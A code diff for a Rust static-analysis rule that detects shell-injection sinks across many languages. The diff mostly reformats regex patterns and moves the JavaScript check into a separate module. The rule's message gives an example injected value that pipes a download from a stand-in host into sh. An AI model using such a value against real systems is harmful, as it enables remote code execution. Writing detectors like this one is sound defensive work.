@@ -1,5 +1,7 @@
 //! `shell-injection`: a command line for a shell, put together from values.
 
+mod javascript;
+
 use std::ops::Range;
 
 use crate::{
@@ -9,7 +11,7 @@ use crate::{
         calls::{self, Qualifier},
         imports::Imports,
         pattern,
-        rows::{self, Argument, CallRow, call},
+        rows::{self, CallRow, call},
         ships, strings,
     },
     rule::{Check, Hit, Rule, Sink},
@@ -32,8 +34,31 @@ Leaves alone: constant commands, argument lists without a shell, values that wer
 Do: pass the program and its arguments as a list, without a shell.",
     languages: &[],
     triggers: &[
-        "shell", "system", "popen", "exec", "spawn", "getoutput", "getstatusoutput", "passthru",
-        "\"-c\"", "'-c'", "-c \"", "-c $", "qx", "`", "%x", "proc_open", "processbuilder", "\"/c\"", "command", "process", "\".!", "$`", "cmd", "open3", "capture",
+        "shell",
+        "system",
+        "popen",
+        "exec",
+        "spawn",
+        "getoutput",
+        "getstatusoutput",
+        "passthru",
+        "\"-c\"",
+        "'-c'",
+        "-c \"",
+        "-c $",
+        "qx",
+        "`",
+        "%x",
+        "proc_open",
+        "processbuilder",
+        "\"/c\"",
+        "command",
+        "process",
+        "\".!",
+        "$`",
+        "cmd",
+        "open3",
+        "capture",
     ],
     strict_only: false,
     never_silenced_by_change: false,
@@ -43,41 +68,113 @@ Do: pass the program and its arguments as a list, without a shell.",
 const TRIGGER: &str = "A value such as `x; curl evil.example | sh` runs as a second command.";
 
 static CALLS: [CallRow; 16] = [
-    call!([Php], r"\b(?:shell_exec|passthru|proc_open|popen|pcntl_exec)\s*\(", NotConstant, 0),
+    call!(
+        [Php],
+        r"\b(?:shell_exec|passthru|proc_open|popen|pcntl_exec)\s*\(",
+        NotConstant,
+        0
+    ),
     call!([Php], r"\b(?:system|exec)\s*\(", NotConstant, 0),
-    call!([Ruby], r"\b(?:system|exec|spawn|popen|popen3|capture2|capture2e|capture3|pipeline|`)\s*\(", Built, 0),
+    call!(
+        [Ruby],
+        r"\b(?:system|exec|spawn|popen|popen3|capture2|capture2e|capture3|pipeline|`)\s*\(",
+        Built,
+        0
+    ),
     call!([Perl], r"\b(?:system|exec)\s*\(", Built, 0),
-    call!([C, Cpp, ObjectiveC], r"\b(?:system|popen|_popen|_wsystem)\s*\(", NotConstant, 0),
-    call!([Java, Kotlin, Scala], r"\bgetRuntime\s*\(\s*\)\s*\.\s*exec\s*\(|\b(?:runtime|rt|Runtime)\s*\.\s*exec\s*\(", Built, 0),
-    call!([Java, Kotlin, Scala], r"\b(?:ProcessBuilder|exec|listOf|arrayOf|List\.of|asList)\s*\(", Any, 9),
+    call!(
+        [C, Cpp, ObjectiveC],
+        r"\b(?:system|popen|_popen|_wsystem)\s*\(",
+        NotConstant,
+        0
+    ),
+    call!(
+        [Java, Kotlin, Scala],
+        r"\bgetRuntime\s*\(\s*\)\s*\.\s*exec\s*\(|\b(?:runtime|rt|Runtime)\s*\.\s*exec\s*\(",
+        Built,
+        0
+    ),
+    call!(
+        [Java, Kotlin, Scala],
+        r"\b(?:ProcessBuilder|exec|listOf|arrayOf|List\.of|asList)\s*\(",
+        Any,
+        9
+    ),
     call!([Lua], r"\b(?:os\.execute|io\.popen)\s*\(", NotConstant, 0),
     call!([Go], r"\bexec\.Command\s*\(|\bsyscall\.Exec\s*\(", Any, 9),
     call!([Go], r"\bexec\.CommandContext\s*\(", Any, 9),
     call!([CSharp], r"\bProcess\.Start\s*\(", Any, 9),
-    call!([Elixir], r":os\.cmd\s*\(|\bSystem\.shell\s*\(", NotConstant, 0),
+    call!(
+        [Elixir],
+        r":os\.cmd\s*\(|\bSystem\.shell\s*\(",
+        NotConstant,
+        0
+    ),
     call!([Dart], r"\bProcess\.(?:run|start|runSync)\s*\(", Any, 9),
     call!([Swift], r"\bsystem\s*\(|\bshell\s*\(", Built, 0),
-    call!([Kotlin, Scala], r"\bRuntime\.getRuntime\(\)\.exec\s*\(", Built, 0),
-    call!([JavaScript, TypeScript, Vue], r"\b(?:child_process|cp|childProcess|require\([^()]*\))\s*\.\s*(?:exec|execSync)\s*\(", Built, 0),
+    call!(
+        [Kotlin, Scala],
+        r"\bRuntime\.getRuntime\(\)\.exec\s*\(",
+        Built,
+        0
+    ),
+    call!(
+        [JavaScript, TypeScript, Vue],
+        r"\b(?:child_process|cp|childProcess|require\([^()]*\))\s*\.\s*(?:exec|execSync)\s*\(",
+        Built,
+        0
+    ),
 ];
 
 pattern!(SHELL_TRUE, r"\bshell\s*=\s*(?:True|1)\b");
-pattern!(ANY_DASH_C, r#"["'](?:/(?:usr/)?bin/)?(?:ba|z|da|k)?sh["']\s*,\s*(?:\[|arguments:\s*\[|listOf\s*\(|&?\[|new\s*\[\]\s*\{)?\s*["']-[a-z]*c["']\s*,\s*|["'](?:cmd|cmd\.exe)["']\s*,\s*\[?\s*["']/[cC]["']\s*,\s*|\barguments\s*=\s*\[\s*"-[a-z]*c"\s*,\s*"#);
+pattern!(
+    ANY_DASH_C,
+    r#"["'](?:/(?:usr/)?bin/)?(?:ba|z|da|k)?sh["']\s*,\s*(?:\[|arguments:\s*\[|listOf\s*\(|&?\[|new\s*\[\]\s*\{)?\s*["']-[a-z]*c["']\s*,\s*|["'](?:cmd|cmd\.exe)["']\s*,\s*\[?\s*["']/[cC]["']\s*,\s*|\barguments\s*=\s*\[\s*"-[a-z]*c"\s*,\s*"#
+);
 pattern!(SCALA, r#"\bs"{1,3}[^"\n]*\$[^"\n]*"{1,3}\s*\.\s*!{1,2}"#);
 static REMOTE: [CallRow; 1] = [call!([Python], r"\.\s*exec_command\s*\(", Built, 0)];
 pattern!(SHELL_ENTRY, r#"(["']shell["']\s*:\s*True)\b"#);
 pattern!(PYTHON_CALL, r"(?:\b([A-Za-z_][\w.]*)\.)?\b(\w+)\s*\(");
-pattern!(JAVASCRIPT_CALL, r"(?:\b([A-Za-z_]\w*)\.)?\b(\w+)\s*\(");
-pattern!(DASH_C, r#"["'](?:/(?:usr/)?bin/)?(?:ba|z|da|k)?sh["']\s*,\s*["']-[a-z]*c["']\s*,\s*|["'](?:cmd|cmd\.exe)["']\s*,\s*["']/[cC]["']\s*,\s*|["']powershell(?:\.exe)?["']\s*,\s*["']-(?:c|Command)["']\s*,\s*"#);
-pattern!(RUST_SHELL, r#"Command::new\(\s*"(?:/(?:usr/)?bin/)?(?:(?:ba|z|da)?sh|cmd|cmd\.exe|powershell)"\s*\)"#);
-pattern!(RUST_ARGUMENT, r#"\.(?:arg|args)\s*\(\s*(?:&?\[)?\s*"(?:-[a-z]*c|/[cC]|-Command)"\s*(?:\)\s*\.\s*arg\s*\(|,)\s*"#);
-pattern!(BACKTICK, r"`[^`\n]*#\{[^}\n]+\}[^`\n]*`|%x[\[({|!][^\n]*#\{[^}\n]+\}");
-pattern!(RUBY_BARE, r#"(?m)(?:^|[=;({\s])(?:Kernel\.)?(system|exec|spawn|IO\.popen|Open3\.\w+)[ ]+("[^"\n]*#\{[^"\n]+"|["'][^"'\n]*["']\s*\+\s*\w)"#);
-pattern!(PERL_BARE, r#"(?m)(?:^|[=;({\s])(system|exec)[ ]+("[^"\n]*[$@]\w[^"\n]*")|(?:=|return|\()\s*(`[^`\n]*[$@]\w[^`\n]*`|qx[{(/|!][^\n]*[$@]\w)"#);
-pattern!(PHP_BACKTICK, r"(?:=|return|echo|\()\s*(`[^`\n]*\$\w[^`\n]*`)");
-pattern!(SHELL_DASH_C, r#"\b(?:ba|z|da)?sh\s+-[a-z]*c\s+("[^"\n]*\$[A-Za-z_0-9{@*][^"\n]*"|\$[A-Za-z_0-9{@*]\S*)"#);
-pattern!(QUOTED, r"\b(?:shlex\s*\.\s*(?:quote|join)|pipes\.quote|quote|escapeshellarg|escapeshellcmd|Shellwords\.(?:escape|join)|shellescape|shell_quote|shellquote|shell_escape|list2cmdline|ShellQuote|shellEscape|escapeShellArg)\b");
-pattern!(CS_SHELL, r#"(?i)\b(?:Arguments\s*=\s*|(?:Process\.Start|ProcessStartInfo)\s*\(\s*"(?:cmd|cmd\.exe|/bin/(?:ba)?sh|bash|sh|powershell(?:\.exe)?)"\s*,\s*)(\$@?"[^"\n]*(?:/c|-c|-Command)\s(?:[^"\n\\]|\\.)*\{(?:[^"\n\\]|\\.)*"|"[^"\n]*(?:/c|-c|-Command)\s(?:[^"\n\\]|\\.)*"\s*\+)"#);
+pattern!(
+    DASH_C,
+    r#"["'](?:/(?:usr/)?bin/)?(?:ba|z|da|k)?sh["']\s*,\s*["']-[a-z]*c["']\s*,\s*|["'](?:cmd|cmd\.exe)["']\s*,\s*["']/[cC]["']\s*,\s*|["']powershell(?:\.exe)?["']\s*,\s*["']-(?:c|Command)["']\s*,\s*"#
+);
+pattern!(
+    RUST_SHELL,
+    r#"Command::new\(\s*"(?:/(?:usr/)?bin/)?(?:(?:ba|z|da)?sh|cmd|cmd\.exe|powershell)"\s*\)"#
+);
+pattern!(
+    RUST_ARGUMENT,
+    r#"\.(?:arg|args)\s*\(\s*(?:&?\[)?\s*"(?:-[a-z]*c|/[cC]|-Command)"\s*(?:\)\s*\.\s*arg\s*\(|,)\s*"#
+);
+pattern!(
+    BACKTICK,
+    r"`[^`\n]*#\{[^}\n]+\}[^`\n]*`|%x[\[({|!][^\n]*#\{[^}\n]+\}"
+);
+pattern!(
+    RUBY_BARE,
+    r#"(?m)(?:^|[=;({\s])(?:Kernel\.)?(system|exec|spawn|IO\.popen|Open3\.\w+)[ ]+("[^"\n]*#\{[^"\n]+"|["'][^"'\n]*["']\s*\+\s*\w)"#
+);
+pattern!(
+    PERL_BARE,
+    r#"(?m)(?:^|[=;({\s])(system|exec)[ ]+("[^"\n]*[$@]\w[^"\n]*")|(?:=|return|\()\s*(`[^`\n]*[$@]\w[^`\n]*`|qx[{(/|!][^\n]*[$@]\w)"#
+);
+pattern!(
+    PHP_BACKTICK,
+    r"(?:=|return|echo|\()\s*(`[^`\n]*\$\w[^`\n]*`)"
+);
+pattern!(
+    SHELL_DASH_C,
+    r#"\b(?:ba|z|da)?sh\s+-[a-z]*c\s+("[^"\n]*\$[A-Za-z_0-9{@*][^"\n]*"|\$[A-Za-z_0-9{@*]\S*)"#
+);
+pattern!(
+    QUOTED,
+    r"\b(?:shlex\s*\.\s*(?:quote|join)|pipes\.quote|quote|escapeshellarg|escapeshellcmd|Shellwords\.(?:escape|join)|shellescape|shell_quote|shellquote|shell_escape|list2cmdline|ShellQuote|shellEscape|escapeShellArg)\b"
+);
+pattern!(
+    CS_SHELL,
+    r#"(?i)\b(?:Arguments\s*=\s*|(?:Process\.Start|ProcessStartInfo)\s*\(\s*"(?:cmd|cmd\.exe|/bin/(?:ba)?sh|bash|sh|powershell(?:\.exe)?)"\s*,\s*)(\$@?"[^"\n]*(?:/c|-c|-Command)\s(?:[^"\n\\]|\\.)*\{(?:[^"\n\\]|\\.)*"|"[^"\n]*(?:/c|-c|-Command)\s(?:[^"\n\\]|\\.)*"\s*\+)"#
+);
 
 fn check(file: &FileView<'_>, hunk: &HunkView<'_>, sink: &mut Sink) {
     if !ships(file) {
@@ -90,14 +187,26 @@ fn check(file: &FileView<'_>, hunk: &HunkView<'_>, sink: &mut Sink) {
         let qualifier = calls::qualifier(&side.code, call.name);
         let inside = calls::inside(&side.code, call.open);
         let fits = match file.language {
-            Language::Php => qualifier == Qualifier::None && calls::word_before(&side.code, call.name) != "new",
+            Language::Php => {
+                qualifier == Qualifier::None && calls::word_before(&side.code, call.name) != "new"
+            }
             Language::C | Language::Cpp | Language::ObjectiveC => qualifier.is_none_or(&["std"]),
-            Language::Ruby => qualifier.is_none_or(&["Kernel", "IO", "Open3", "Process"]) && !is_list(side, &call.argument),
-            Language::Perl | Language::Lua | Language::Elixir | Language::Swift => qualifier.is_none_or(&["os", "io"]),
+            Language::Ruby => {
+                qualifier.is_none_or(&["Kernel", "IO", "Open3", "Process"])
+                    && !is_list(side, &call.argument)
+            }
+            Language::Perl | Language::Lua | Language::Elixir | Language::Swift => {
+                qualifier.is_none_or(&["os", "io"])
+            }
             Language::Go | Language::Dart => dash_c(side, file.language, inside.clone()),
-            Language::CSharp => dash_c(side, file.language, inside.clone()) || CS_SHELL.is_match(&side.live[call.whole.clone()]),
+            Language::CSharp => {
+                dash_c(side, file.language, inside.clone())
+                    || CS_SHELL.is_match(&side.live[call.whole.clone()])
+            }
             Language::Java | Language::Kotlin | Language::Scala => {
-                (last == "exec" && name.contains('.') && strings::is_built(side, file.language, call.argument.clone()))
+                (last == "exec"
+                    && name.contains('.')
+                    && strings::is_built(side, file.language, call.argument.clone()))
                     || dash_c(side, file.language, inside.clone())
             }
             _ => true,
@@ -116,7 +225,9 @@ fn check(file: &FileView<'_>, hunk: &HunkView<'_>, sink: &mut Sink) {
                 found(&SHELL_ENTRY, hunk, sink);
             }
         }
-        Language::JavaScript | Language::TypeScript | Language::Vue => javascript(file, hunk, sink),
+        Language::JavaScript | Language::TypeScript | Language::Vue => {
+            javascript::javascript(file, hunk, sink);
+        }
         Language::Rust => rust(hunk, sink),
         Language::Ruby => {
             found(&BACKTICK, hunk, sink);
@@ -129,7 +240,15 @@ fn check(file: &FileView<'_>, hunk: &HunkView<'_>, sink: &mut Sink) {
         Language::Shell => found(&SHELL_DASH_C, hunk, sink),
         _ => {}
     }
-    if !matches!(file.language, Language::Shell | Language::Yaml | Language::Json | Language::Dockerfile | Language::Toml | Language::Rust) {
+    if !matches!(
+        file.language,
+        Language::Shell
+            | Language::Yaml
+            | Language::Json
+            | Language::Dockerfile
+            | Language::Toml
+            | Language::Rust
+    ) {
         shell_lists(file, hunk, sink);
     }
 }
@@ -142,12 +261,21 @@ fn shell_lists(file: &FileView<'_>, hunk: &HunkView<'_>, sink: &mut Sink) {
         let value = calls::trim(&side.code, found.end()..end.max(found.end()));
         let range = found.start()..value.end.max(found.end());
         let is_text = side.code.as_bytes()[found.start()] == b' ';
-        if is_text || value.is_empty() || side.in_test(found.start()) || !side.touches_change(&range) {
+        if is_text
+            || value.is_empty()
+            || side.in_test(found.start())
+            || !side.touches_change(&range)
+        {
             continue;
         }
         let code = &side.code[value.clone()];
-        let is_shouted = code.bytes().all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_');
-        if !is_shouted && !strings::is_constant(side, file.language, value.clone()) && !is_constant_name(side, file.language, &value) {
+        let is_shouted = code
+            .bytes()
+            .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_');
+        if !is_shouted
+            && !strings::is_constant(side, file.language, value.clone())
+            && !is_constant_name(side, file.language, &value)
+        {
             report(side, range, sink);
         }
     }
@@ -156,7 +284,12 @@ fn shell_lists(file: &FileView<'_>, hunk: &HunkView<'_>, sink: &mut Sink) {
 /// Reports once per place, unless what is spliced in was quoted.
 fn report(side: &Side, range: Range<usize>, sink: &mut Sink) {
     let text = &side.live[range.clone()];
-    if QUOTED.is_match(text) || sink.hits.iter().any(|p| p.hit.range.start <= range.start && range.start < p.hit.range.end) {
+    if QUOTED.is_match(text)
+        || sink
+            .hits
+            .iter()
+            .any(|p| p.hit.range.start <= range.start && range.start < p.hit.range.end)
+    {
         return;
     }
     let mut hit = Hit::at(range, TRIGGER);
@@ -169,7 +302,9 @@ fn report(side: &Side, range: Range<usize>, sink: &mut Sink) {
 fn found(pattern: &regex::Regex, hunk: &HunkView<'_>, sink: &mut Sink) {
     let side = &hunk.new;
     for captures in pattern.captures_iter(&side.live) {
-        let Some(group) = captures.iter().skip(1).flatten().next().or(captures.get(0)) else { continue };
+        let Some(group) = captures.iter().skip(1).flatten().next().or(captures.get(0)) else {
+            continue;
+        };
         let is_text = side.code.as_bytes()[group.start()] == b' ';
         if !is_text && !side.in_test(group.start()) && side.touches_change(&group.range()) {
             report(side, group.range(), sink);
@@ -197,17 +332,27 @@ fn python(file: &FileView<'_>, hunk: &HunkView<'_>, sink: &mut Sink) {
     let side = &hunk.new;
     let imports = Imports::of(file);
     for found in PYTHON_CALL.captures_iter(&side.code) {
-        let (Some(whole), Some(name)) = (found.get(0), found.get(2)) else { continue };
+        let (Some(whole), Some(name)) = (found.get(0), found.get(2)) else {
+            continue;
+        };
         let open = whole.end() - 1;
         let owner = found.get(1).map(|o| o.as_str());
         let is_of = |module: &str, member: &str| match owner {
-            Some(owner) => name.as_str() == member && (owner == module || imports.is_module(owner, module)),
+            Some(owner) => {
+                name.as_str() == member && (owner == module || imports.is_module(owner, module))
+            }
             None => imports.is_member(name.as_str(), module, member),
         };
-        let runs = ["run", "call", "check_call", "check_output", "Popen"].iter().any(|f| is_of("subprocess", f));
-        let takes_text = ["system", "popen", "popen2", "popen3"].iter().any(|f| is_of("os", f))
-            || ["getoutput", "getstatusoutput"].iter().any(|f| is_of("subprocess", f) || is_of("commands", f))
-            || is_of("asyncio", "create_subprocess_shell")            ;
+        let runs = ["run", "call", "check_call", "check_output", "Popen"]
+            .iter()
+            .any(|f| is_of("subprocess", f));
+        let takes_text = ["system", "popen", "popen2", "popen3"]
+            .iter()
+            .any(|f| is_of("os", f))
+            || ["getoutput", "getstatusoutput"]
+                .iter()
+                .any(|f| is_of("subprocess", f) || is_of("commands", f))
+            || is_of("asyncio", "create_subprocess_shell");
         if side.in_test(whole.start()) || calls::is_declaration(&side.code, whole.start(), open) {
             continue;
         }
@@ -217,13 +362,16 @@ fn python(file: &FileView<'_>, hunk: &HunkView<'_>, sink: &mut Sink) {
             continue;
         }
         let uses_shell = SHELL_TRUE.is_match(&side.code[inside.clone()]);
-        if !(takes_text || (uses_shell && (runs || owner.is_none_or(|o| !o.starts_with("self."))))) {
+        if !(takes_text || (uses_shell && (runs || owner.is_none_or(|o| !o.starts_with("self.")))))
+        {
             if runs && dash_c(side, file.language, inside) {
                 report(side, range, sink);
             }
             continue;
         }
-        let Some(argument) = calls::split(&side.code, inside).into_iter().next() else { continue };
+        let Some(argument) = calls::split(&side.code, inside).into_iter().next() else {
+            continue;
+        };
         let argument = calls::named(&side.code, &argument).map_or(argument, |(_, value)| value);
         if strings::is_constant(side, file.language, argument.clone())
             || is_constant_list(side, file.language, &argument)
@@ -246,7 +394,11 @@ fn is_constant_name(side: &Side, language: Language, argument: &Range<usize>) ->
     if name.is_empty() || !name.bytes().all(calls::is_word) {
         return false;
     }
-    if name.len() > 1 && name.bytes().all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_') {
+    if name.len() > 1
+        && name
+            .bytes()
+            .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_')
+    {
         return true;
     }
     let mut bound = 0;
@@ -255,7 +407,10 @@ fn is_constant_name(side: &Side, language: Language, argument: &Range<usize>) ->
     while let Some(at) = code[from..].find(name).map(|at| from + at) {
         from = at + name.len();
         let rest = code[from..].trim_start_matches(' ');
-        let rest = rest.strip_prefix(':').filter(|r| r.starts_with('=')).unwrap_or(rest);
+        let rest = rest
+            .strip_prefix(':')
+            .filter(|r| r.starts_with('='))
+            .unwrap_or(rest);
         let is_whole = !code[..at].ends_with(|c: char| c.is_alphanumeric() || c == '_' || c == '.');
         if !is_whole || !rest.starts_with('=') || rest.starts_with("==") {
             if is_whole && rest.starts_with("+=") {
@@ -273,65 +428,14 @@ fn is_constant_name(side: &Side, language: Language, argument: &Range<usize>) ->
     bound > 0
 }
 
-fn javascript(file: &FileView<'_>, hunk: &HunkView<'_>, sink: &mut Sink) {
-    let side = &hunk.new;
-    let imports = Imports::of(file);
-    for found in JAVASCRIPT_CALL.captures_iter(&side.code) {
-        let (Some(whole), Some(name)) = (found.get(0), found.get(2)) else { continue };
-        let open = whole.end() - 1;
-        let owner = found.get(1).map(|o| o.as_str());
-        let is_of = |member: &str| match owner {
-            Some(owner) => name.as_str() == member && imports.is_module(owner, "child_process"),
-            None => imports.is_member(name.as_str(), "child_process", member),
-        };
-        let named_so = owner.is_none() && matches!(name.as_str(), "exec" | "execSync" | "execAsync" | "execPromise")
-            && calls::qualifier(&side.code, name.start()) == Qualifier::None;
-        let takes_text = is_of("exec") || is_of("execSync") || named_so
-            || owner.is_some_and(|o| o == "shell" || o == "shelljs") && name.as_str() == "exec"
-            || name.as_str() == "execaCommand" || name.as_str() == "execaCommandSync";
-        let spawns = is_of("spawn") || is_of("spawnSync") || is_of("execFile") || is_of("execFileSync")
-            || matches!(name.as_str(), "spawn" | "spawnSync" | "execa");
-        if !(takes_text || spawns) || side.in_test(whole.start()) || calls::is_declaration(&side.code, whole.start(), open) {
-            continue;
-        }
-        if takes_text {
-            let is_sure = !named_so || is_of("exec") || is_of("execSync");
-            let wanted = if is_sure && rows::is_input(&side.code[calls::inside(&side.code, open)]) { Argument::NotConstant } else { Argument::Built };
-            if let Some(call) = rows::judge(side, file.language, whole.start(), open, wanted, 0) {
-                report(side, call.whole, sink);
-            }
-            continue;
-        }
-        let inside = calls::inside(&side.code, open);
-        let range = whole.start()..(inside.end + 1).min(side.code.len());
-        let uses_shell = side.code[inside.clone()].contains("shell: true") || side.code[inside.clone()].contains("shell:true");
-        let parts = calls::split(&side.code, inside.clone());
-        let first_built = parts.first().is_some_and(|p| strings::is_built(side, file.language, p.clone()));
-        let list_built = parts.get(1).is_some_and(|p| side.code[p.clone()].starts_with('[') && strings::is_built(side, file.language, p.clone()));
-        if side.touches_change(&range) && ((uses_shell && (first_built || list_built)) || dash_c_list(side, file.language, inside)) {
-            report(side, range, sink);
-        }
-    }
-}
-
-/// `spawn("sh", ["-c", x])`.
-fn dash_c_list(side: &Side, language: Language, inside: Range<usize>) -> bool {
-    pattern!(LIST, r#"["'`](?:/(?:usr/)?bin/)?(?:ba|z|da)?sh["'`]\s*,\s*\[\s*["'`]-[a-z]*c["'`]\s*,\s*|["'`]cmd(?:\.exe)?["'`]\s*,\s*\[\s*["'`]/[cC]["'`]\s*,\s*"#);
-    let text = &side.live[inside.clone()];
-    LIST.find(text).is_some_and(|found| {
-        let start = inside.start + found.end();
-        let end = calls::expression_end(&side.code, start).min(inside.end).max(start);
-        let value = calls::trim(&side.code, start..end);
-        !value.is_empty() && !strings::is_constant(side, language, value)
-    })
-}
-
 fn rust(hunk: &HunkView<'_>, sink: &mut Sink) {
     let side = &hunk.new;
     for shell in RUST_SHELL.find_iter(&side.live) {
         let end = calls::expression_end(&side.code, shell.start());
         let chain = &side.live[shell.end()..end.max(shell.end())];
-        let Some(flag) = RUST_ARGUMENT.find(chain) else { continue };
+        let Some(flag) = RUST_ARGUMENT.find(chain) else {
+            continue;
+        };
         let start = shell.end() + flag.end();
         let value_end = calls::expression_end(&side.code, start);
         let value = calls::trim(&side.code, start..value_end);
@@ -339,7 +443,9 @@ fn rust(hunk: &HunkView<'_>, sink: &mut Sink) {
         if value.is_empty() || side.in_test(shell.start()) || !side.touches_change(&range) {
             continue;
         }
-        if !strings::is_constant(side, Language::Rust, value.clone()) && !is_constant_name(side, Language::Rust, &value) {
+        if !strings::is_constant(side, Language::Rust, value.clone())
+            && !is_constant_name(side, Language::Rust, &value)
+        {
             report(side, range, sink);
         }
     }
